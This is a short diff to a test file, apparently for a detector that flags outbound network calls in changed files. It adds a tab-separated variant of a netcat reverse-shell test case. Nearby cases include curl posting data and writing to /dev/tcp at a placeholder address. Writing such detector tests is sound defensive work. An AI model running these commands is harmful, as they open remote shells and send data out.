@@ -23,6 +23,7 @@ from tests.changed_files import Change
         ("cmd/a.go", "\thttp.Get(address)", "http.Get"),
         ("run.sh", 'curl -d @data "$TO"', "curl"),
         ("run.sh", "nc -e /bin/sh 10.0.0.1 4444", "nc"),
+        ("run.sh", "nc\t-e /bin/sh 10.0.0.1 4444", "nc"),
         ("run.sh", "cat data > /dev/tcp/10.0.0.1/80", "/dev/tcp/"),
         ("src/A.java", "  var client = HttpClient.newHttpClient();", "HttpClient"),
     ],
